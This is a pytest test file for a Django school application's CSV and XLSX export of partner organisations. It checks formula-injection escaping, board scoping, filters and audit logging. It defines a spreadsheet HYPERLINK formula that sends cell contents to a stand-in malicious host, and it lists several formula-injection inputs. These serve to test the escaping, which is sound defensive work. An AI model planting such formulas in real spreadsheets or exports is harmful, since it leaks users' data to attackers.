"""CSV and XLSX export of the directory: formula injection neutralised, scoped, filtered, logged."""

from __future__ import annotations

import csv
import io

import pytest
from django.http import QueryDict
from django.urls import reverse
from openpyxl import load_workbook

from familieschool.choices import Hulpdomein
from familieschool.models import Inzage
from partners.exports import escape_cell, filter_from_querydict, partner_rows, write_csv, write_xlsx
from partners.models import Contactpersoon, PartnerSoort, Samenwerking
from partners.selectors import PartnerFilter, zoek_partners
from partners.services import create_partner

HYPERLINK = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier")'


def _partner(bestuur, naam, **data):
    return create_partner(bestuur=bestuur, data={"naam": naam, "soort": PartnerSoort.SPORTVERENIGING, **data})


def _csv_rows(response) -> list[list[str]]:
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _names(rows: list[list[str]]) -> list[str]:
    return [row[0] for row in rows[1:]]


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+31 20 123 4567", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\rcmd", "  =1+1", " \t@x", "\n-1"],
)
def test_escape_cell_prefixes_every_dangerous_start(value):
    escaped = escape_cell(value)

    assert escaped == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"),
    [("Voetbal", "Voetbal"), ("a=b", "a=b"), ("", ""), (None, ""), (12, "12"), ("e-mail", "e-mail")],
)
def test_escape_cell_leaves_safe_text_alone(value, expected):
    assert escape_cell(value) == expected


def test_write_csv_uses_semicolons_bom_and_minimal_quoting():
    rows = [["Naam", "Aanbod"], ["Club; de Bal", "zwemmen"]]

    content = write_csv(rows)

    assert content == '\ufeffNaam;Aanbod\r\n"Club; de Bal";zwemmen\r\n'.encode()


def test_partner_rows_give_labels_contacts_and_collaboration(school):
    partner = _partner(
        school.bestuur,
        "Budgetmaatjes West",
        soort=PartnerSoort.FONDS,
        domeinen=[Hulpdomein.SCHULDEN, Hulpdomein.GELD],
        leeftijd_van=18,
        gratis_met_stadspas=True,
    )
    Contactpersoon.objects.create(partner=partner, naam="Els Bakker", functie="coördinator", telefoon="020-1234567")
    Contactpersoon.objects.create(partner=partner, naam="Ahmed Yilmaz", email="ahmed@budget.example")
    Samenwerking.objects.create(partner=partner, school=school)
    partners = zoek_partners(school=school, filters=PartnerFilter()).prefetch_related("contactpersonen")

    header, row = partner_rows(partners)

    waarden = dict(zip(header, row, strict=True))
    assert waarden["Soort"] == "Fonds"
    assert waarden["Hulpdomeinen"] == "Geld en regelingen; Schulden"
    assert waarden["Leeftijd vanaf"] == 18
    assert waarden["Leeftijd tot en met"] == ""
    assert waarden["Stadspas"] == "ja"
    assert waarden["Contactpersonen"] == "Ahmed Yilmaz ahmed@budget.example; Els Bakker (coördinator) 020-1234567"
    assert waarden["Werkt met onze school"] == "ja"


def test_partner_export_csv_escapes_a_formula_in_the_name(client, coordinator):
    _partner(coordinator.school.bestuur, HYPERLINK, telefoon="+31 20 555 0101")
    client.force_login(coordinator.user)

    response = client.get(reverse("partners:partner_export_csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="partners-obs-zonnewijzer-')
    header, row = _csv_rows(response)
    waarden = dict(zip(header, row, strict=True))
    assert waarden["Naam"] == "'" + HYPERLINK
    assert waarden["Telefoon"] == "'+31 20 555 0101"


def test_partner_export_xlsx_stores_a_formula_as_escaped_text(client, coordinator):
    _partner(coordinator.school.bestuur, HYPERLINK, aanbod="@SUM(1+1)")
    client.force_login(coordinator.user)

    response = client.get(reverse("partners:partner_export_xlsx"))

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    naam = sheet.cell(row=2, column=header.index("Naam") + 1)
    aanbod = sheet.cell(row=2, column=header.index("Aanbod") + 1)
    assert naam.value == "'" + HYPERLINK
    assert naam.data_type == "s"
    assert aanbod.value == "'@SUM(1+1)"
    assert aanbod.data_type == "s"
    assert sheet["A1"].font.bold


def test_write_xlsx_never_writes_a_formula():
    rows = [["Naam"], ["=1+1"], ["\t=2+2"], [" -3"]]

    sheet = load_workbook(io.BytesIO(write_xlsx(rows))).active

    cellen = [sheet.cell(row=i, column=1) for i in range(2, 5)]
    assert [cel.data_type for cel in cellen] == ["s", "s", "s"]
    assert all(cel.value.startswith("'") for cel in cellen)


def test_partner_export_contains_only_the_boards_partners(client, leerkracht, andere_school, vreemd_bestuur_school):
    _partner(leerkracht.school.bestuur, "Bibliotheek Bos en Lommer")
    _partner(andere_school.bestuur, "Muziekschool West")  # same board, another school: shared
    _partner(vreemd_bestuur_school.bestuur, "Zwemclub Elders")
    client.force_login(leerkracht.user)

    response = client.get(reverse("partners:partner_export_csv"))

    assert _names(_csv_rows(response)) == ["Bibliotheek Bos en Lommer", "Muziekschool West"]


def test_partner_export_leaves_out_archived_partners(client, coordinator):
    from partners.services import archive_partner

    _partner(coordinator.school.bestuur, "Actief")
    archive_partner(partner=_partner(coordinator.school.bestuur, "Gearchiveerd"))
    client.force_login(coordinator.user)

    response = client.get(reverse("partners:partner_export_csv"))

    assert _names(_csv_rows(response)) == ["Actief"]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("soort=cultuur", ["Muziekschool West"]),
        ("soort=cultuur&soort=sportvereniging", ["Muziekschool West", "Voetbalclub De Bal"]),
        ("domein=geld", ["Budgetmaatjes"]),
        ("leeftijd=16", ["Budgetmaatjes", "Muziekschool West"]),
        ("samenwerking=1", ["Voetbalclub De Bal"]),
        ("wijk=bos+en+lommer", ["Voetbalclub De Bal"]),
        ("q=muziek", ["Muziekschool West"]),
        ("leeftijd=oud&soort=onzin&domein=", ["Budgetmaatjes", "Muziekschool West", "Voetbalclub De Bal"]),
    ],
)
def test_partner_export_applies_the_list_filters(client, coordinator, query, expected):
    bestuur = coordinator.school.bestuur
    bal = _partner(bestuur, "Voetbalclub De Bal", leeftijd_van=6, leeftijd_tot=12, wijk="Bos en Lommer")
    _partner(bestuur, "Muziekschool West", soort=PartnerSoort.CULTUUR, leeftijd_van=4, leeftijd_tot=18)
    _partner(bestuur, "Budgetmaatjes", soort=PartnerSoort.FONDS, domeinen=[Hulpdomein.GELD])
    Samenwerking.objects.create(partner=bal, school=coordinator.school)
    client.force_login(coordinator.user)

    response = client.get(reverse("partners:partner_export_csv") + "?" + query)

    assert response.status_code == 200
    assert sorted(_names(_csv_rows(response))) == expected


def test_filter_from_querydict_ignores_bad_values():
    querydict = QueryDict("q=+voetbal+&soort=onzin&soort=cultuur&domein=geld&domein=x&leeftijd=100&samenwerking=1")

    filters = filter_from_querydict(querydict)

    assert filters == PartnerFilter(q="voetbal", soorten=["cultuur"], domeinen=["geld"], alleen_samenwerking=True)


def test_filter_from_querydict_shows_the_archive_only_when_allowed():
    querydict = QueryDict("archief=1")

    assert not filter_from_querydict(querydict).met_archief
    assert filter_from_querydict(querydict, mag_archief=True).met_archief


@pytest.mark.parametrize("url_name", ["partners:partner_export_csv", "partners:partner_export_xlsx"])
def test_partner_export_is_logged_as_an_export(client, coordinator, url_name):
    client.force_login(coordinator.user)

    client.get(reverse(url_name))

    inzage = Inzage.objects.get()
    assert (inzage.actie, inzage.record_type, inzage.doel) == (Inzage.Actie.EXPORTEREN, "partners.partner", "export")
    assert (inzage.user, inzage.school) == (coordinator.user, coordinator.school)


def test_partner_export_needs_a_login(client, db):
    response = client.get(reverse("partners:partner_export_csv"))

    assert response.status_code == 302
    assert not Inzage.objects.exists()
